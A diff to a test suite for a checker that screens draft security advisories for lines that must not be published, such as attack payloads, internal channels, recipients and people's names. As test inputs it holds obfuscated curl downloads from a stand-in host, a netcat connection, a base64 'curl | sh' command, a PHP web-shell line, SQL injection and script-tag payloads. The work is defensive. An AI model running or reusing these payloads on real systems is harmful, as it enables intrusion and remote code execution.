@@ -39,6 +39,35 @@ describe('a line that must not become public', () => {
     ['a long run of one letter', 'A'.repeat(40)],
     ['a command in full-width letters', 'ｃｕｒｌ　ｈｔｔｐ://host.example/x'],
     ['a command with invisible characters', 'cu\u200Brl http://host.example/x'],
+    ['a command with invisible characters as HTML writes them', 'cu&#8203;rl http://host.example/x'],
+    ['a download without a scheme', 'curl host.example/x.sh'],
+    ['a download with a quoted address', "curl 'http://host.example/x'"],
+    ['a script that is run', 'python3 trigger.py'],
+    ['a connection', 'nc host.example 4444'],
+    ['the file of an exploit', 'It is in quill_poc.py'],
+    ['a link to a pasted text', 'See https://gist.github.com/sample/0123456789abcdef'],
+    ['a tag in HTML entities', 'A title such as &lt;script&gt;alert(1)&lt;/script&gt; is run.'],
+    ['a tag in numbers of HTML', 'A title such as &#60;&#x73;cript> is run.'],
+    ['a tag in percent signs', 'A title such as %3Cscript%3E is run.'],
+    ['a tag in escapes of JSON', String.raw`A title such as \u003cscript\u003e is run.`],
+    ['a command in base64', 'Y3VybCBodHRwOi8vMTI3LjAuMC4xL2EgfCBzaA=='],
+    ['a path in base64 without its end', 'The name aW5jbHVkZSAiLi4vLi4vZXRjL3Bhc3N3ZCI is taken.'],
+    ['an event of a tag', 'A title of x onerror=alert(1) is run.'],
+    ['an include in a template', 'Rendering {{ include "../x" }} reads the file.'],
+    ['a block in a template', "Rendering {% include '../x' %} reads the file."],
+    ['a script of PHP', '<?php system($_GET[0]); ?>'],
+    ['a call with its argument', 'import os; os.system("id")'],
+    ['a query that is always true', 'A name of x or 1=1-- logs in.'],
+    ['a key of a prototype', '{"__proto__": {"admin": true}}'],
+    ['a proof of concept with other hyphens', 'Proof\u2011of\u2011concept: open it twice'],
+    ['a reproducer', 'Reproducer: open it twice'],
+    ['a proof of concept in German', 'Machbarkeitsnachweis: zweimal öffnen'],
+    ['steps in German', 'Schritte zum Reproduzieren: zweimal öffnen'],
+    ['steps in French', 'Pour reproduire : ouvrir deux fois'],
+    ['steps in Spanish', 'Para reproducir: abrir dos veces'],
+    ['steps in Russian', 'Как воспроизвести: открыть дважды'],
+    ['steps in Japanese', '再現手順：二回開く'],
+    ['steps in Chinese', '复现步骤：打开两次'],
   ])('%s', (_attack, line) => {
     expect(problems(`Reads files.\n${line}`)).toEqual(['attack'])
   })
@@ -52,6 +81,16 @@ describe('a line that must not become public', () => {
     ['the name of the channel', 'As said in #sec-2026-0042.', 'channel'],
     ['the name of a recipient', 'Users of North Hosting are safe.', 'recipient'],
     ['the address of a recipient', 'Ask security@north.example', 'recipient'],
+    ['a link into Slack with its dots in brackets', 'See quillmark[.]slack[.]com/archives/C012345', 'channel'],
+    ['a link into Slack in percent signs', 'See https://quillmark.%73lack.com/archives/C012345', 'channel'],
+    ['the name of the channel with another hyphen', 'As said in #sec\u20112026\u20110042.', 'channel'],
+    ['a recipient in other letters', 'Users of NORTH  hosting are safe.', 'recipient'],
+    ['a recipient with a fixed space', 'Users of North&nbsp;Hosting are safe.', 'recipient'],
+    ['a recipient on two lines', 'Users of North\nHosting are safe.', 'recipient'],
+    ['an address of a recipient in other letters', 'Ask Security@North.example', 'recipient'],
+    ['another case in small letters', 'It is like https://host.example/psf-2026-0007', 'case'],
+    ['another case with another hyphen', 'It is like PSF\u20112026\u20110007.', 'case'],
+    ['the reporter in small letters', 'Found by robin sample.', 'person'],
     ['another case', 'It is like PSF-2026-0007.', 'case'],
     ['a person of the team', 'Ana fixed it.', 'person'],
     ['the reporter', 'Robin Sample may read files.', 'person'],
@@ -59,12 +98,12 @@ describe('a line that must not become public', () => {
     expect(problems(line)).toEqual([problem])
   })
 
-  it('is listed once for each problem, shortened, and on one line', () => {
+  it('is listed once for each problem, whole, and on one line', () => {
     const line = `Ana:\t  see   #sec-2026-0042, ${'and so on '.repeat(40)}`
     expect(wordingFindings(`ok\n${line}`, SECRET)).toEqual(
       (['channel', 'person'] as const).map((problem) => ({
         problem,
-        line: line.replaceAll(/\s+/gu, ' ').slice(0, 160),
+        line: line.replaceAll(/\s+/gu, ' ').trim(),
       })),
     )
   })
@@ -79,6 +118,12 @@ describe('a line that may become public', () => {
     'An exploit is public.',
     'Analysts who use curl to read https://quillmark.example/ are not affected.',
     'Northern users, and all whose host is not North.',
+    'Uses curl 8.5 and/or wget; run node in version 24, or python 3.',
+    'File names with ../ in them are taken, and {{ name }} is filled in twice.',
+    'The call eval() gets what a user sends, &amp; so does exec(name).',
+    'Hashes: 0123456789abcdef0123456789abcdef01234567, packages/quillmark/templates/attachments/reader',
+    'Der Fehler lässt sich leicht reproduzieren.',
+    'InternationalizationConfigurationException is thrown at 100% of the quota.',
     'https://quillmark.example/security/CVE-1900-0042 has more.',
     'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:N/VI:H/VA:N/SC:N/SI:N/SA:N',
   ])('%s', (line) => {
